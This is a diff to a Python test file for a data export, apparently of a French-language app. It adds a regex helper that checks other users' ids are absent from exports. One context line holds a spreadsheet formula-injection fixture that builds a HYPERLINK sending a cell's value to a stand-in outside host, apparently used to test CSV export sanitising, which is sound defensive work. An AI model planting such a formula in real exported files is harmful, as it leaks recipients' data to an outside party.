@@ -120,6 +120,13 @@ CSV_HEADERS = (
 ADMIN = 9001  # in ADMIN_IDS (tests/conftest.py)
 OTHER_ADMIN = 9002
 SOMEONE = 3003
+
+
+def mentions_id(raw: str, user_id: int) -> bool:
+    """Whether the export names this id as a whole number (not inside a timestamp's digits)."""
+    return re.search(rf"(?<![\d.]){user_id}(?![\d])", raw) is not None
+
+
 AT = datetime(2025, 3, 5, 9, 30, tzinfo=UTC)  # 10:30 in Paris
 FORMULA = '=HYPERLINK("https://exemple.org/?d="&A1;"Cliquez")'
 
@@ -453,7 +460,7 @@ async def test_data_export_json_holds_every_section_with_labels_when_an_admin_as
     assert (failure["job"], failure["attempts"], failure["gave_up"]) == ("digest", 2, False)
 
     # Other people are described, never identified; invitation tokens stay secret.
-    assert str(OTHER_ADMIN) not in raw and str(SOMEONE) not in raw
+    assert not mentions_id(raw, OTHER_ADMIN) and not mentions_id(raw, SOMEONE)
     assert "token_hash" not in raw and "a" * 64 not in raw
     assert "Pour quelqu'un d'autre" not in raw
 
@@ -490,7 +497,7 @@ async def test_audit_rows_about_a_meeting_are_left_out_when_its_id_is_a_persons(
     ]
     assert data["meetings_created"] == [] and data["digest_subscription"] is None
     assert data["roles"] == [{"key": "member", "label": fr("Contributor")}]
-    assert str(ADMIN) not in raw
+    assert not mentions_id(raw, ADMIN)
 
 
 async def test_data_export_csv_is_readable_with_semicolons_when_the_person_is_french(
